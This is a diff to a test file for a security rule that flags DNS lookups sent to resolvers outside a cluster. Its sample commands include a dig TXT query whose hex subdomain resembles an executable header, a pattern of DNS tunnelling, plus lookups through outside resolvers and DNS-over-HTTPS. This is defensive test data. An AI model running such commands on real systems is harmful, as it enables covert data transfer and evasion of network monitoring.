@@ -3,7 +3,18 @@ import { aConnectOf, isUdpConnect, withDestination } from "../../../testing/comm
 import { policyFor } from "../../../testing/engine.ts";
 import { type Answer, answerOf, ruleTable } from "../../../testing/rule-table.ts";
 
-ruleTable("foreign-resolver", { steps: [["da2-09", "Medium"]] });
+ruleTable("foreign-resolver", {
+  steps: [["da2-09", "Medium"]],
+  commands: [
+    ["/usr/bin/dig", "@203.0.113.66 x.example TXT", "Medium"],
+    ["/usr/bin/nslookup", "x.example 1.1.1.1", "Medium"],
+    ["/usr/bin/dig", "+short TXT 4d5a90000300000004000000ffff0000b8.t.example.com", "Medium"],
+    ["/usr/bin/curl", "--doh-url https://x.example/dns-query https://y.example", "Medium"],
+    ["/usr/bin/dig", "@10.96.0.10 web.example.com", "none"],
+    ["/usr/bin/nslookup", "kubernetes.default", "none"],
+    ["/usr/bin/dig", "+short web-frontend-7f5d88c9bb.web.svc.cluster.local", "none"],
+  ],
+});
 
 test.each<[string, number, Answer]>([
   ["8.8.8.8", 53, "Medium"],
